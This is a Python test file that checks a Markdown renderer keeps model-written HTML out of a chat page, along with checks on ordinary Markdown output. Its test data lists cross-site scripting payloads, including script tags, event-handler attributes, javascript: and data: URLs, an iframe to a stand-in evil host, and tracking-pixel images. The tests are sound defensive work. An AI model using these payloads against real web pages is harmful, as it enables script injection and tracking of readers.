"""Replies are rendered from Markdown safely: the model's HTML never reaches the page."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from web.rendering import ALLOWED_TAGS, markdown_render


class Elements(HTMLParser):
    """Every element and attribute in a piece of HTML (escaped text is text, not markup)."""

    def __init__(self, html: str):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="https://ok.example" onclick="steal()">x</a>',
    "<iframe src=https://evil.example></iframe>",
    "<svg onload=alert(1)>",
    "![pixel](https://tracker.example/p.png?u=alice)",
    '<div style="background:url(https://tracker.example)">x</div>',
    "```html\n<script>alert(2)</script>\n```",
]


@pytest.mark.parametrize("source", ATTACKS)
def test_no_markup_from_the_model_survives(source):
    html = markdown_render(f"Here you go:\n\n{source}\n\n好的。")
    for tag, attrs in Elements(html).tags:
        assert tag in ALLOWED_TAGS and tag not in ("script", "img", "iframe", "svg"), html
        assert not any(name.startswith("on") or name == "style" for name in attrs), html
        href = attrs.get("href") or ""
        assert not href or href.startswith("https://"), html
    assert "tracker.example/p.png" not in html  # no remote image that would tell a server who read the reply
    assert "好的。" in html  # the rest of the reply is still there


def test_markdown_structures_render_as_html():
    source = (
        "## 开店计划\n\n1. 选址：**徐汇区**\n2. 预算 *40 万*\n\n- item one\n- `code`\n\n"
        "| 项目 | 金额 |\n|:--|--:|\n| 租金 | 12 万 |\n\n```python\nprint('hi')\n```\n\n"
        "> a quote\n\nSee [the docs](https://example.com/docs) and ~~old~~.\nNext line."
    )
    html = markdown_render(source)
    assert "<h2>开店计划</h2>" in html
    assert "<ol>" in html and "<strong>徐汇区</strong>" in html and "<em>40 万</em>" in html
    assert "<ul>" in html and "<code>code</code>" in html
    assert "<table>" in html and '<td class="align-right">12 万</td>' in html
    assert '<code class="language-python">' in html and "print(" in html
    assert "<blockquote>" in html and "<s>old</s>" in html
    assert 'href="https://example.com/docs"' in html and 'rel="noopener noreferrer nofollow"' in html
    assert "<br" in html  # a single newline is a line break, as models write


def test_plain_text_and_empty_input():
    assert markdown_render("") == ""
    assert markdown_render("只是一句话 & <不是标签>") == "<p>只是一句话 &amp; &lt;不是标签&gt;</p>\n"
